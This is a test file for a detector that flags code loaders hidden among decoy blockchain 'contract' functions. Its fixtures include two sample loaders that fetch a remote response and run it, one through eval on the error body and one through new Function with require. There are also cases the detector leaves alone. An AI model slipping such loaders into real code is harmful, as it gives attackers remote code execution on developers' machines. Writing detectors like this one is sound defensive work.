import { describe, expect, it } from 'vitest';
import { fileHits } from '../../../test/support/file-view.ts';
import detector from './decoy-functions-around-loader.ts';

describe('decoy-functions-around-loader', () => {
  const decoy = (name: string): string =>
    `async function call${name}Contract() { try { const r = await axios.get(RPC.${name}); return r.data; } catch (e) { console.log(e.response.data); } }\n`;
  const decoys = ['Usdt', 'Bnb', 'Matic', 'Avax', 'Ftm'].map(decoy).join('');
  it.each([
    [
      'an error that is run',
      'async function callHashedContract() { axios.get(u).catch((err) => { eval(err.response.data); }); }\n',
    ],
    [
      'an answer that is run',
      "const callOtherContract = async () => { const r = await axios.get(u); new Function('require', r.data.cookie)(require); };\n",
    ],
  ])('%s', (_name, loader) => {
    expect(fileHits(detector, 'middleware/auth.js', decoys + loader)).toEqual(['strong@6']);
  });
  it.each([
    ['a client', decoys],
    ['an evaluation elsewhere', `eval(x);\n${decoys}`],
    ['a word in a comment', `${decoys}// eval(x)\n`],
  ])('leaves %s alone', (_name, text) => {
    expect(fileHits(detector, 'api/client.js', text)).toEqual([]);
  });
});
